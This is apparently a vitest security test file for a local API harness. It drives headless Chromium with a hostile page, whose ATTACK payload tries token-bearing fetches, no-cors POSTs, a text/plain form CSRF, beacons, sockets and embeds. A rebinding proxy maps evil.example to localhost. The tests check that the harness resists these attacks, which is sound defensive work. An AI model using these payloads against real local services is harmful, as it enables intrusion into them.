import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHarness, type Harness } from '@connectorkit/harness';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { CHROMIUM, IN_CHROMIUM } from './chromium.ts';

const inBrowser = test.skipIf(CHROMIUM === undefined);

const SECTION = '/api/v2/sdk/apps/connections/shop/api';

let harness: Harness;
const reached: string[] = [];
const servers: { close(): unknown; closeAllConnections?(): void }[] = [];
beforeEach(async () => {
  harness = await createHarness({
    onRequest: ({ method, path, status }) => reached.push(`${status} ${method} ${path}`),
  });
  await harness.seed('make', { app: 'shop', connections: [{ type: 'basic', label: 'Main' }] });
});
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections?.();
    server.close();
  }
  await harness.close();
  reached.splice(0);
});

/** Serves at a free port of this machine, for as long as a test takes. */
async function listening(listener: RequestListener): Promise<number> {
  const server: Server = createServer(listener).listen(0, '127.0.0.1');
  servers.push(server);
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

/** What a page can do to an address, and what it gets to see of it: it knows the tokens, which no page should. */
const ATTACK = `
const text = (path, init) => fetch(target + path, init).then((response) => response.text());
const platform = { authorization: 'Token ' + tokens.platform };
const own = { authorization: 'Bearer ' + tokens.control, 'content-type': 'application/json' };
const embed = (name, set) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(name), set);
  element.onload = () => {
    if (name !== 'iframe') return resolve(name + ' was loaded');
    try { resolve(element.contentDocument.body.textContent); } catch { resolve(''); }
  };
  element.onerror = () => resolve('');
  document.body.append(element);
});
const attempts = {
  'fetch': () => text(section),
  'fetch of what the harness says of itself': () => text('/__harness'),
  'fetch with a token': () => text(section, { headers: platform }),
  'fetch with the harness’s own token': () => text('/__harness/journal', { headers: own }),
  'fetch without CORS': () => text(section, { mode: 'no-cors' }),
  'PUT': () => text(section, { method: 'PUT', headers: { ...platform, 'content-type': 'application/jsonc' }, body: '{"url":"https://evil.example"}' }),
  'DELETE': () => text(section.slice(0, -'/api'.length), { method: 'DELETE', headers: platform }),
  'reset': () => text('/__harness/reset', { method: 'POST', headers: own, body: '{}' }),
  'fault': () => text('/__harness/faults', { method: 'POST', headers: own, body: '{"effect":"reset"}' }),
  'POST that needs no leave': () => text('/__harness/reset', { method: 'POST', mode: 'no-cors', body: '{}' }),
  'POST to a platform that needs no leave': () => text('/api/v2/sdk/apps', { method: 'POST', mode: 'no-cors', body: '{"name":"evil","label":"Evil"}' }),
  'beacon': async () => (navigator.sendBeacon(target + '/__harness/reset', '{}'), ''),
  'stream': () => new Promise((resolve) => {
    const source = new EventSource(target + '/__harness/journal/stream');
    source.onopen = () => resolve('the stream was opened');
    source.onerror = () => resolve('');
  }),
  'socket': () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace('http', 'ws') + section);
    socket.onopen = () => resolve('the socket was opened');
    socket.onerror = () => resolve('');
  }),
  'image': () => embed('img', { src: target + section }),
  'script': () => embed('script', { src: target + '/__harness' }),
  'style': () => embed('link', { rel: 'stylesheet', href: target + section }),
  'frame': () => embed('iframe', { src: target + section }),
  'form': async () => {
    document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form target="sink" method="post" enctype="text/plain"><input name="{&quot;a" value="&quot;:1}"></form>');
    const form = document.querySelector('form');
    form.action = target + '/__harness/reset';
    const sent = new Promise((resolve) => { document.querySelector('[name=sink]').onload = resolve; });
    form.submit();
    await sent;
    try { return document.querySelector('[name=sink]').contentDocument.body.textContent; } catch { return ''; }
  },
};
const timely = (attempt) => Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 3000, 'no end'))]);
const got = {};
for (const [name, attempt] of Object.entries(attempts)) got[name] = await timely(attempt).catch(() => '');
await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
`;

interface Aim {
  /** What the page asks; '' for the address that it came from. */
  readonly target: string;
  readonly report: string;
}

function page({ target, report }: Aim): string {
  const tokens = { platform: harness.token, control: harness.controlToken };
  const known = { target: target === '' ? undefined : target, tokens, report, section: SECTION };
  return `<!doctype html><body><script type="module">
const { target = location.origin, tokens, report, section } = ${JSON.stringify(known)};
${ATTACK}
</script>`;
}

/** Opens a page in a browser of its own, until it has reported what it got. */
async function visit(open: (report: string) => Promise<{ url: string; options?: readonly string[] }>) {
  let tell: (got: Record<string, string>) => void = () => {};
  const reported = new Promise<Record<string, string>>((resolve) => {
    tell = resolve;
  });
  const port = await listening(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    response.end();
    if (body !== '') tell(JSON.parse(body));
  });
  const { url, options = [] } = await open(`http://127.0.0.1:${port}/`);
  const folder = mkdtempSync(join(tmpdir(), 'browser-'));
  const flags = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run', `--user-data-dir=${folder}`];
  const child = spawn(CHROMIUM ?? '', [...flags, ...options, url], { stdio: ['ignore', 'ignore', 'pipe'] });
  let output = '';
  child.stderr.on('data', (chunk) => {
    output += chunk;
  });
  const closed = once(child, 'close');
  try {
    return await Promise.race([
      reported,
      closed.then(() => {
        throw new Error(`the browser ended: ${output}`);
      }),
    ]);
  } finally {
    child.kill();
    await closed.catch(() => {});
    rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
  }
}

/** All that a page could have changed. */
async function state() {
  const { registry } = (await harness.clients()).make;
  return {
    apps: await registry.apps(),
    connections: await registry.list('shop'),
    api: await registry.section('shop', 'api'),
    faults: await harness.faults.list(),
    snapshots: await harness.snapshots(),
  };
}

const namesOfRead = (got: Readonly<Record<string, string>>) => Object.keys(got).filter((name) => got[name] !== '');

/** A server that answers everybody, and remembers what was done to it. */
async function unguarded() {
  const done: string[] = [];
  const port = await listening(({ method, url }, response) => {
    done.push(`${method} ${url}`);
    response.setHeader('content-type', 'application/json').end('{"open":true}');
  });
  return { port, done };
}

for (const name of ['127.0.0.1', 'localhost']) {
  inBrowser(
    `a page of ${name} at another port reads and changes nothing${IN_CHROMIUM}`,
    { timeout: 60_000 },
    async () => {
      const attack = (target: string) =>
        visit(async (report) => {
          const port = await listening((_request, response) => {
            response.setHeader('content-type', 'text/html').end(page({ target, report }));
          });
          return { url: `http://${name}:${port}/` };
        });
      const open = await unguarded();
      await attack(`http://127.0.0.1:${open.port}`);
      expect(open.done, 'what the page does to a server without guards').toEqual(
        expect.arrayContaining(['POST /__harness/reset', 'POST /api/v2/sdk/apps', `GET ${SECTION}`]),
      );

      const before = await state();
      await harness.journal.clear();
      reached.splice(0);
      expect(namesOfRead(await attack(harness.url))).toEqual([]);
      expect(reached.length).toBeGreaterThan(10);
      const admitted = reached.filter((line) => !line.startsWith('403'));
      // A frame may go anywhere; it has no token, and the page cannot look into it.
      expect(new Set(admitted)).toEqual(new Set([`401 GET ${SECTION}`]));
      expect((await harness.journal.list()).map(({ status }) => status)).toEqual([401]);
      expect(await state()).toEqual(before);
    },
  );
}

/** An address whose name leads to the page's own server first, and to another port of this machine afterwards. */
async function rebinding(port: number, report: string) {
  let asked = false;
  const own = await listening((_request, response) => {
    asked = true;
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
    response.end(page({ target: '', report }));
  });
  const network = createTcpServer((socket) => {
    // Browsers open connections in advance: where one leads is found out when something is asked on it.
    socket
      .once('error', () => {})
      .once('readable', () => {
        const onward = connect(asked ? port : own, '127.0.0.1');
        onward.once('error', () => socket.destroy()).once('close', () => socket.destroy());
        socket.once('close', () => onward.destroy());
        socket.pipe(onward).pipe(socket);
      });
  }).listen(0, '127.0.0.1');
  servers.push(network);
  await once(network, 'listening');
  const rule = `MAP evil.example 127.0.0.1:${(network.address() as AddressInfo).port}`;
  return { url: 'http://evil.example/', options: [`--host-resolver-rules=${rule}`] };
}

inBrowser(
  `a page whose name is led to the harness (DNS rebinding) gets nothing${IN_CHROMIUM}`,
  { timeout: 60_000 },
  async () => {
    const open = await unguarded();
    const seen = await visit((report) => rebinding(open.port, report));
    expect(seen['fetch with a token'], 'what the page reads of a server without guards').toBe('{"open":true}');
    expect(open.done).toEqual(expect.arrayContaining([`PUT ${SECTION}`, 'POST /__harness/faults']));

    const before = await state();
    await harness.journal.clear();
    reached.splice(0);
    const got = await visit((report) => rebinding(Number(new URL(harness.url).port), report));
    const words = new Set(Object.values(got));
    expect([...words].filter((word) => word !== '' && !word.includes('does not answer'))).toEqual([]);
    expect(reached.length).toBeGreaterThan(10);
    expect(reached.filter((line) => !line.startsWith('403'))).toEqual([]);
    expect(await harness.journal.list()).toEqual([]);
    expect(await state()).toEqual(before);
  },
);
